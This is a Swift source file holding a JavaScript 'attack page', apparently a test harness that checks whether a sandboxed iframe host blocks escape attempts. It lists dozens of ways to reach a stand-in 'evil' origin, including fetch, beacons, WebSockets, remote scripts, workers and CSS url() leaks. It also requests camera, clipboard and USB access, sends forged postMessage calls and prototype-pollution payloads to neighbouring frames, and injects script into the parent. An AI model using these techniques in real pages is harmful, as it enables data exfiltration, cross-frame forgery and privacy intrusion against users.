/// A page that tries every way out that a browser offers: by requests, by navigation, by the user's machine, and by
/// its neighbours. What makes it leave itself is tried elsewhere. `attack(origin)` runs all of it, and returns what each attempt came to: `done` is a success.
enum AttackPage {
    static let script = #"""
        const attempts = {
          // Requests of scripts
          fetch: evil => fetch(evil), fetchNoCORS: evil => fetch(evil, { mode: "no-cors" }),
          keepalive: evil => fetch(evil, { keepalive: true, method: "POST", body: "x" }),
          fetchLater: evil => { fetchLater(evil, { activateAfter: 0 }); throw "queued" },
          xhr: evil => new Promise((done, fail) => {
            const x = new XMLHttpRequest(); x.open("GET", evil); x.onload = done; x.onerror = () => fail("blocked"); x.send();
          }),
          beacon: evil => { navigator.sendBeacon(evil, "x"); throw "queued" },
          socket: evil => new Promise((done, fail) => {
            const s = new WebSocket(evil.replace("http", "ws")); s.onopen = done; s.onerror = () => fail("blocked");
          }),
          events: evil => new Promise((done, fail) => {
            const s = new EventSource(evil); s.onopen = done; s.onerror = () => { s.close(); fail("blocked") };
          }),
          transport: evil => new WebTransport(evil.replace("http:", "https:")).ready,
          // Code
          module: evil => import(evil), classic: evil => element("script", { src: evil }),
          moduleScript: evil => element("script", { type: "module", src: evil }),
          worker: evil => begun(new Worker(evil)), sharedWorker: evil => begun(new SharedWorker(evil)),
          dataWorker: evil => begun(new Worker(`data:text/javascript,fetch("${evil}")`)),
          blobWorker: evil => begun(new Worker(URL.createObjectURL(new Blob([`fetch("${evil}")`])))),
          serviceWorker: evil => navigator.serviceWorker.register(evil),
          paintWorklet: evil => CSS.paintWorklet.addModule(evil),
          audioWorklet: evil => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(evil),
          nestedFrame: evil => run(element("iframe"), evil),
          srcdoc: evil => element("iframe", { srcdoc: `<script>fetch("${evil}")<` + "/script>" }),
          // Elements
          image: evil => element("img", { src: evil }), srcset: evil => element("img", { srcset: `${evil} 1x` }),
          video: evil => element("video", { src: evil }), poster: evil => element("video", { poster: evil }),
          audio: evil => element("audio", { src: evil, autoplay: true }),
          track: evil => markup(`<video><track default src="${evil}"></video>`),
          embed: evil => element("embed", { src: evil }), object: evil => element("object", { data: evil }),
          frame: evil => element("iframe", { src: evil }), picture: evil => markup(`<picture><source srcset="${evil}"><img></picture>`),
          input: evil => element("input", { type: "image", src: evil }),
          svgImage: evil => markup(`<svg><image href="${evil}"/></svg>`), svgUse: evil => markup(`<svg><use href="${evil}#x"/></svg>`),
          svgFilter: evil => markup(`<svg><filter><feImage href="${evil}"/></filter></svg>`),
          portal: evil => element("portal", { src: evil }), fencedFrame: evil => element("fencedframe", { src: evil }),
          // Links
          ...Object.fromEntries(["stylesheet", "icon", "manifest", "prefetch", "prerender", "modulepreload", "preload",
            "apple-touch-icon", "compression-dictionary", "expect", "next"].map(rel =>
              [`link ${rel}`, evil => element("link", { rel, href: evil, as: "script" })])),
          rules: evil => element("script", { type: "speculationrules", textContent: JSON.stringify(
            { prefetch: [{ urls: [evil] }], prerender: [{ urls: [evil] }] }) }),
          // Styles
          ...Object.fromEntries(Object.entries({
            background: e => `body { background: url(${e}) }`, import: e => `@import "${e}";`,
            font: e => `@font-face { font-family: f; src: url(${e}) } body { font-family: f }`,
            mask: e => `body { mask-image: url(${e}); -webkit-mask-image: url(${e}) }`, filter: e => `p { filter: url(${e}#f) }`,
            cursor: e => `body { cursor: url(${e}), auto }`, list: e => `li { list-style-image: url(${e}) }`,
            border: e => `p { border-image-source: url(${e}) }`, content: e => `p::before { content: url(${e}) }`,
            shape: e => `p { float: left; shape-outside: url(${e}) }`, namespace: e => `@namespace url(${e});`,
          }).map(([name, css]) => [`css ${name}`, evil => element("style", { textContent: css(evil) })])),
          // Forms and links to press
          formTop: evil => submit(evil, "_top"), formBlank: evil => submit(evil, "_blank"),
          ping: evil => press({ href: "#x", ping: evil }),
          blank: evil => press({ href: evil, target: "_blank" }), topLink: evil => press({ href: evil, target: "_top" }),
          popup: evil => { if (!window.open(evil)) throw "blocked" }, script: () => { if (!window.open("javascript:1")) throw "blocked" },
          // The page around it
          readTop: () => top.document.title, readHost: () => top.location.href, topName: () => { top.name = "x"; return top.name },
          goTop: evil => { top.location = evil; throw "asked" }, goHost: evil => { parent.parent.location.href = evil; throw "asked" },
          domain: () => { document.domain = "localhost" }, cookie: () => { document.cookie = "a=b"; if (!document.cookie) throw "none" },
          alert: () => { if (confirm("x") || prompt("x")) return; throw "nothing shown" },
          // The machine
          camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
          screen: () => navigator.mediaDevices.getDisplayMedia(), location: () => new Promise(navigator.geolocation.getCurrentPosition.bind(navigator.geolocation)),
          clipboard: () => navigator.clipboard.readText(), fullscreen: () => document.documentElement.requestFullscreen(),
          pointer: () => document.body.requestPointerLock(), usb: () => navigator.usb.requestDevice({ filters: [] }),
          hid: () => navigator.hid.requestDevice({ filters: [] }), serial: () => navigator.serial.requestPort(),
          lock: () => navigator.wakeLock.request(), midi: () => navigator.requestMIDIAccess(),
          notify: async () => { if (await Notification.requestPermission() !== "granted") throw "denied" },
          file: () => showOpenFilePicker(),
          // Its neighbours, and the program
          neighbours: () => {
            const forged = { jsonrpc: "2.0", method: "ui/notifications/tool-result", params: { structuredContent: "forged" } };
            for (let i = 0; i < top.length; i++) {
              top[i].postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "forged" } }, "*");
              for (let j = 0; j < top[i].length; j++) if (top[i][j] !== window) top[i][j].postMessage(forged, "*");
            }
            top.postMessage(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "ui/open-link", params: { url: "https://example.com/" } }), "*");
            throw "posted";
          },
          pollute: () => {
            parent.postMessage(JSON.parse('{"jsonrpc":"2.0","id":"p","method":"ping","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'), "*");
            throw "posted";
          },
          injected: () => {
            // As the proxy, which is of the same origin: text that is more than one message.
            const text = JSON.stringify('{"jsonrpc":"2.0","id":"i","method":"ping"}],"seq":99,"x":[{}');
            parent.document.body.append(Object.assign(document.createElement("script"), { textContent: `parent.postMessage(${text}, "*")` }));
            throw "posted";
          },
        };
        function element(name, members = {}) {
          const node = document.createElement(name), tries = new Promise((done, fail) => {
            node.onload = () => done(node); node.onerror = () => fail("blocked");
            setTimeout(fail, 1500, "nothing came");
          });
          for (const [key, value] of Object.entries(members)) try { node[key] = value } catch {}
          for (const key of ["src", "href", "data"]) if (members[key]) node.setAttribute(key, members[key]);
          document.body.append(node);
          // An empty frame, and a style without what it names, load at once.
          return ["iframe", "style", "object", "fencedframe"].includes(name) || members.type === "speculationrules"
            ? tries.then(() => { throw "empty" }) : tries;
        }
        function markup(html) { document.body.insertAdjacentHTML("beforeend", html); throw "inserted" }
        const begun = worker => new Promise((done, fail) => { worker.onmessage = done; worker.onerror = () => fail("blocked"); setTimeout(fail, 1500, "silent") });
        function submit(action, target) {
          const form = Object.assign(document.createElement("form"), { action, target, method: "post" });
          document.body.append(form); form.submit(); throw "submitted";
        }
        function press(members) {
          const link = Object.assign(document.createElement("a"), members);
          if (members.ping) link.ping = members.ping;
          document.body.append(link); link.click(); throw "pressed";
        }
        async function run(tries, evil) {
          const frame = document.querySelector("iframe");
          tries.catch(() => {});
          await frame.contentWindow.fetch(evil);
        }
        async function attack(origin) {
          const results = {};
          await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
            try {
              await Promise.race([attempt(`${origin}/${encodeURIComponent(name)}`), new Promise((_, fail) => setTimeout(fail, 2500, "nothing came"))]);
              results[name] = "done";
            } catch (error) { results[name] = String(error?.name ?? error) }
          }));
          return results;
        }
        """#
}
